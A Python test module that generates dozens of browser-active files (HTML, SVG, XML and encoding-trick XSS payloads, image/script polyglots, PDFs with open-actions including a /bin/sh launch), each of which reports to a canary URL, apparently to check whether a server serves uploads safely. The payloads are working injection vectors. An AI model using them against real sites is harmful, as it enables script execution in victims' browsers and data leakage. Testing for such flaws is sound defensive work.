"""Files that act when a browser lets them: each says that it ran, calls the attacker's site, or goes there."""

import struct
import zlib
from base64 import b64encode
from collections.abc import Iterator

from tests.browser.oracle import RAN
from tests.contents import Sent

HTML = "text/html"
SVG = "image/svg+xml"
XML = "application/xml"
XHTML = "application/xhtml+xml"
JS = "text/javascript"
CSS = "text/css"
PNG = "image/png"
PDF = "application/pdf"

_SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
_XHTML_NS = 'xmlns="http://www.w3.org/1999/xhtml"'
_PIXEL = b64encode(
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)


INERT = frozenset(
    {
        "math.html",
        "fake.svg",
        "packed.svgz",
        "feed.rss",
        "feed.atom",
        "made-up.foo",
        "math.mml",
        "dtd.xml",
        "utf16.txt",
        "utf7.html",
        "utf7.txt",
        "bom.html",
        "blank.html",
        "script.mjs",
        "ico.html",
        "action.pdf",
        "link.pdf",
        "submit.pdf",
        "launch.pdf",
        "saved.mhtml",
        "program.hta",
        "mail.eml",
        "module.wasm",
        "letters.woff2",
        "letters.svg",
        "film.vtt",
        "site.webmanifest",
        "old.swf",
        "cache.appcache",
        "list.m3u8",
        "unknown.bin",
        "replace.html",
    }
)
"""Those that today's Chromium leaves alone even on a careless server; other programs, or older ones, would not."""

FEW = (
    "page.html",
    "plain.svg",
    "page.xhtml",
    "gif.html",
    "script.js",
    "sheet.xml",
    "style.css",
    "utf16le.html",
    "pdf.html",
    "location.html",
    "hidden.jpg",
    "refresh.html",
    "service.js",
    "nothing",
    "dialog.html",
    "window.html",
)
"""One of each kind, for the run of every day; the first two go through every API."""


def payloads(canary: str) -> tuple[Sent, ...]:
    """All of them, aimed at an attacker's site."""
    found = [
        Sent(name, media_type, content if isinstance(content, bytes) else content.encode())
        for family in (_html, _svg, _xml, _encoded, _scripts, _styles, _polyglots, _documents, _odd)
        for name, media_type, content in family(canary)
    ]
    assert len({sent.name for sent in found}) == len(found)
    return tuple(found)


Made = Iterator[tuple[str, str, str | bytes]]


def run(name: str, canary: str) -> str:
    """The script of a file."""
    return f"console.log('{RAN}{name}');try{{(new Image).src='{canary}/hit/{name}'}}catch(e){{}}"


def _html(canary: str) -> Made:
    def script(name: str) -> str:
        return f"<script>{run(name, canary)}</script>"

    yield "page.html", HTML, f"<!doctype html><title>x</title>{script('page.html')}"
    yield "bare.htm", HTML, f"{script('bare.htm')}"
    yield "onerror.html", HTML, f'<img src=x: onerror="{run("onerror.html", canary)}">'
    yield "onload.html", HTML, f'<body onload="{run("onload.html", canary)}">'
    yield "late.html", HTML, f"{'<!-- ' + 'x' * 5000 + ' -->'}{script('late.html')}"
    yield "case.HtMl", "TEXT/HTML", f"<ScRiPt>{run('case.HtMl', canary)}</sCrIpT>"
    yield "charset.html", "text/html; charset=utf-8", script("charset.html")
    yield "srcdoc.html", HTML, f'<iframe srcdoc="{script("srcdoc.html")}"></iframe>'
    yield "jsurl.html", HTML, f'<iframe src="javascript:{run("jsurl.html", canary)}"></iframe>'
    yield "dataurl.html", HTML, f'<iframe src="data:text/html,{script("dataurl.html")}"></iframe>'
    yield "refresh.html", HTML, f'<meta http-equiv=refresh content="0;url={canary}/nav/refresh.html">'
    yield "location.html", HTML, f"<script>location='{canary}/nav/location.html'</script>"
    yield "window.html", HTML, f"{script('window.html')}<script>open('{canary}/nav/window.html')</script>"
    yield "form.html", HTML, f'<form id=f action="{canary}/nav/form.html"></form><script>f.submit()</script>'
    yield "beacon.html", HTML, f"<script>navigator.sendBeacon('{canary}/hit/beacon.html')</script>"
    yield "socket.html", HTML, f"<script>new WebSocket('{canary.replace('http', 'ws')}/hit/socket.html')</script>"
    yield "prefetch.html", HTML, f'<link rel=prefetch href="{canary}/hit/a"><link rel=stylesheet href="{canary}/hit/b">'
    yield "images.html", HTML, f'<img src="{canary}/hit/c"><video poster="{canary}/hit/d"></video>'
    yield "base.html", HTML, f'<base href="{canary}/hit/"><script src=base.js></script>'
    yield "worker.html", HTML, f'{script("worker.html")}<script>new Worker("?")</script>'
    yield "service.html", HTML, f'{script("service.html")}<script>navigator.serviceWorker.register("?")</script>'
    yield "math.html", HTML, f'<math><mtext></mtext><maction actiontype="toggle">{script("math.html")}</maction></math>'
    yield (
        "template.html",
        HTML,
        f'<details open ontoggle="{run("template.html", canary)}"><summary>x</summary></details>',
    )
    yield "comment.html", HTML, f"<!--><script>{run('comment.html', canary)}</script>-->"
    yield "dialog.html", HTML, "<script>alert('RAN dialog.html')</script>"


def _svg(canary: str) -> Made:
    def drawn(inner: str, attributes: str = "") -> str:
        return f"<svg {_SVG_NS} {attributes}>{inner}</svg>"

    def script(name: str) -> str:
        return f"<script><![CDATA[{run(name, canary)}]]></script>"

    yield "plain.svg", SVG, drawn(script("plain.svg"))
    yield "declared.svg", SVG, f'<?xml version="1.0"?><!DOCTYPE svg>{drawn(script("declared.svg"))}'
    yield "onload.svg", SVG, drawn("", f'onload="{run("onload.svg", canary)}"')
    yield (
        "foreign.svg",
        SVG,
        drawn(
            f'<foreignObject width="9" height="9"><body {_XHTML_NS}>'
            f'<img src="x:" onerror="{run("foreign.svg", canary)}"/></body></foreignObject>'
        ),
    )
    yield "animate.svg", SVG, drawn(f'<animate onbegin="{run("animate.svg", canary)}" attributeName="x" dur="1s"/>')
    yield "image.svg", SVG, drawn(f'<image href="{canary}/hit/image.svg" width="9" height="9"/>')
    yield "use.svg", SVG, drawn(f'<use xlink:href="{canary}/hit/use.svg#x"/>{script("use.svg")}')
    yield "style.svg", SVG, drawn(f'<style>@import url("{canary}/hit/style.svg");</style>')
    yield (
        "entity.svg",
        SVG,
        f'<!DOCTYPE svg [<!ENTITY a "{run("entity.svg", canary)}">]>{drawn("<script>&a;</script>")}',
    )
    yield "fake.svg", PNG, drawn(script("fake.svg"))
    yield "fake.png", SVG, drawn(script("fake.png"))
    yield "packed.svgz", SVG, zlib.compress(drawn(script("packed.svgz")).encode(), wbits=31)


def _xml(canary: str) -> Made:
    def xhtml(name: str) -> str:
        return f"<html {_XHTML_NS}><body><script>{run(name, canary)}</script></body></html>"

    yield "page.xhtml", XHTML, f'<?xml version="1.0"?>{xhtml("page.xhtml")}'
    yield "page.xht", XHTML, xhtml("page.xht")
    yield "page.xml", XML, xhtml("page.xml")
    yield "text.xml", "text/xml", xhtml("text.xml")
    yield "feed.rss", "application/rss+xml", f'<rss version="2.0"><channel>{xhtml("feed.rss")}</channel></rss>'
    yield "feed.atom", "application/atom+xml", f'<feed xmlns="http://www.w3.org/2005/Atom">{xhtml("feed.atom")}</feed>'
    yield "made-up.foo", "application/foo+xml", xhtml("made-up.foo")
    yield (
        "math.mml",
        "application/mathml+xml",
        (
            f'<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext>'
            f"<script {_XHTML_NS}>{run('math.mml', canary)}</script></mtext></math>"
        ),
    )
    style = (
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
        f"{xhtml('sheet.xml')}</xsl:template></xsl:stylesheet>"
    )
    inline = f"data:text/xsl;base64,{b64encode(style.encode()).decode()}"
    yield "sheet.xml", XML, f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{inline}"?><a/>'
    yield (
        "remote.xml",
        XML,
        f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{canary}/hit/remote.xml"?><a/>',
    )
    yield "css.xml", XML, f'<?xml version="1.0"?><?xml-stylesheet type="text/css" href="{canary}/hit/css.xml"?><a/>'
    yield "dtd.xml", XML, f'<!DOCTYPE a SYSTEM "{canary}/hit/dtd.xml"><a>&b;</a>'
    yield "sheet.xsl", "text/xsl", style


def _encoded(canary: str) -> Made:
    def script(name: str) -> str:
        return f"<html><script>{run(name, canary)}</script></html>"

    yield "utf16le.html", HTML, b"\xff\xfe" + script("utf16le.html").encode("utf-16-le")
    yield "utf16be.html", HTML, b"\xfe\xff" + script("utf16be.html").encode("utf-16-be")
    yield "utf16.txt", "text/plain", b"\xff\xfe" + script("utf16.txt").encode("utf-16-le")
    yield "utf16.svg", SVG, f"<svg {_SVG_NS}><script>{run('utf16.svg', canary)}</script></svg>".encode("utf-16")
    yield "utf7.html", "text/html; charset=utf-7", f"+ADw-script+AD4-{run('utf7.html', canary)}+ADw-/script+AD4-"
    yield "utf7.txt", "text/plain; charset=utf-7", f"+ADw-script+AD4-{run('utf7.txt', canary)}+ADw-/script+AD4-"
    yield "jis.html", "text/html; charset=iso-2022-jp", b"\x1b(J" + script("jis.html").encode()
    yield "bom.html", "text/plain", b"\xef\xbb\xbf" + script("bom.html").encode()
    yield "blank.html", "text/plain", b"\n" * 600 + script("blank.html").encode()
    yield "page.txt", HTML, script("page.txt")


def _scripts(canary: str) -> Made:
    yield "script.js", JS, run("script.js", canary)
    yield "script.mjs", "application/javascript", f"{run('script.mjs', canary)};export default 1"
    yield "script.png", JS, run("script.png", canary)
    yield "script.txt", JS, run("script.txt", canary)
    yield "script.pdf", JS, run("script.pdf", canary)
    yield "service.js", JS, f"console.log('{RAN}service.js');self.onfetch=()=>0;fetch('{canary}/hit/service.js')"
    yield "callback.json", JS, f"{run('callback.json', canary)};callback({{}})"
    yield "data.json", "application/json", f"[eval(`{run('data.json', canary)}`)]"
    yield "script.csv", JS, run("script.csv", canary)
    yield (
        "hidden.jpg",
        JS,
        b"\xff\xd8\xff\xe0=1;".replace(b"\xff\xd8\xff\xe0", b"/*\xff\xd8\xff\xe0*/x")
        + run("hidden.jpg", canary).encode(),
    )


def _styles(canary: str) -> Made:
    for name in ("style.css", "style.png", "style.txt"):
        yield name, CSS, f'@import url("{canary}/hit/{name}");body{{background:url("{canary}/hit/background-{name}")}}'


def _polyglots(canary: str) -> Made:
    def script(name: str) -> bytes:
        return f"<html><script>{run(name, canary)}</script></html>".encode()

    # Each is a real picture or archive by its first bytes, and a page or script to whoever looks further.
    yield "gif.html", HTML, b"GIF89a" + script("gif.html")
    yield "gif.js", JS, b"GIF89a=1;" + run("gif.js", canary).encode()
    yield "gif.gif", JS, b"GIF89a/*\x00\x00*/=1;" + run("gif.gif", canary).encode()
    yield "png.html", HTML, _png() + script("png.html")
    yield "jpeg.html", HTML, b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + script("jpeg.html")
    yield "bmp.js", JS, b"BM=1;" + run("bmp.js", canary).encode()
    yield "riff.html", HTML, b"RIFF\x10\x00\x00\x00WEBPVP8 " + script("riff.html")
    yield "zip.html", HTML, b"PK\x03\x04" + bytes(26) + script("zip.html")
    yield "pdf.html", HTML, script("pdf.html") + b"\n%PDF-1.4\n%%EOF"
    yield "ico.html", "image/x-icon", b"\x00\x00\x01\x00\x01\x00" + script("ico.html")
    yield "mp4.html", HTML, b"\x00\x00\x00\x18ftypmp42" + script("mp4.html")


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")


def _documents(canary: str) -> Made:
    yield "action.pdf", PDF, pdf(f"<< /S /JavaScript /JS (app.alert\\('{RAN}action.pdf'\\)) >>")
    yield "link.pdf", PDF, pdf(f"<< /S /URI /URI ({canary}/hit/link.pdf) >>")
    yield "submit.pdf", PDF, pdf(f"<< /S /SubmitForm /F ({canary}/hit/submit.pdf) >>")
    yield "launch.pdf", PDF, pdf("<< /S /Launch /F (/bin/sh) >>")
    yield "report.docx", HTML, f"<html><script>{run('report.docx', canary)}</script>"


def pdf(action: str) -> bytes:
    """A document of one empty page that acts when it is opened."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R /OpenAction {action} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        "<< /Length 30 >>\nstream\n0 0 1 rg 20 20 160 160 re f    \nendstream",
    ]
    body, places = b"%PDF-1.4\n", []
    for number, text in enumerate(objects, 1):
        places.append(len(body))
        body += f"{number} 0 obj\n{text}\nendobj\n".encode()
    rows = "".join(f"{place:010d} 00000 n \n" for place in places)
    trailer = f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{len(body)}\n%%EOF\n"
    return body + f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{rows}{trailer}".encode()


def _odd(canary: str) -> Made:
    script = f"<script>{run('saved.mhtml', canary)}</script>"
    yield (
        "saved.mhtml",
        "multipart/related",
        (
            'From: x\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary="b"; type="text/html"\n\n'
            f"--b\nContent-Type: text/html\nContent-Location: http://x/\n\n<html>{script}</html>\n--b--\n"
        ),
    )
    yield "program.hta", "application/hta", f"<hta:application><script>{run('program.hta', canary)}</script>"
    yield "mail.eml", "message/rfc822", f"Content-Type: text/html\n\n<script>{run('mail.eml', canary)}</script>"
    yield (
        "module.wasm",
        "application/wasm",
        b"\0asm\x01\0\0\0" + f"<script>{run('module.wasm', canary)}</script>".encode(),
    )
    yield "letters.woff2", "font/woff2", b"wOF2\0\1\0\0" + f"<script>{run('letters.woff2', canary)}</script>".encode()
    yield (
        "letters.svg",
        "font/svg",
        f"<svg {_SVG_NS}><defs><font/></defs><script>{run('letters.svg', canary)}</script></svg>",
    )
    yield "film.vtt", "text/vtt", f"WEBVTT\n\n00:00.000 --> 00:09.000\n<script>{run('film.vtt', canary)}</script>"
    yield "site.webmanifest", "application/manifest+json", f'{{"start_url":"javascript:{run("site", canary)}"}}'
    yield "old.swf", "application/x-shockwave-flash", b"FWS\x08" + f"<script>{run('old.swf', canary)}</script>".encode()
    yield "cache.appcache", "text/cache-manifest", f"CACHE MANIFEST\n{canary}/hit/appcache\n"
    yield "list.m3u8", "application/vnd.apple.mpegurl", f"#EXTM3U\n#EXTINF:1,\n{canary}/hit/list.ts\n"
    yield "nothing", "", f"<html><script>{run('nothing', canary)}</script></html>"
    yield "unknown.bin", "application/x-unknown", f"<html><script>{run('unknown.bin', canary)}</script></html>"
    yield (
        "replace.html",
        "multipart/x-mixed-replace; boundary=b",
        (f"--b\r\nContent-Type: text/html\r\n\r\n<script>{run('replace.html', canary)}</script>\r\n--b--\r\n"),
    )
    yield "pixel.gif", HTML, f'<img src="data:image/gif;base64,{_PIXEL.decode()}" onload="{run("pixel.gif", canary)}">'
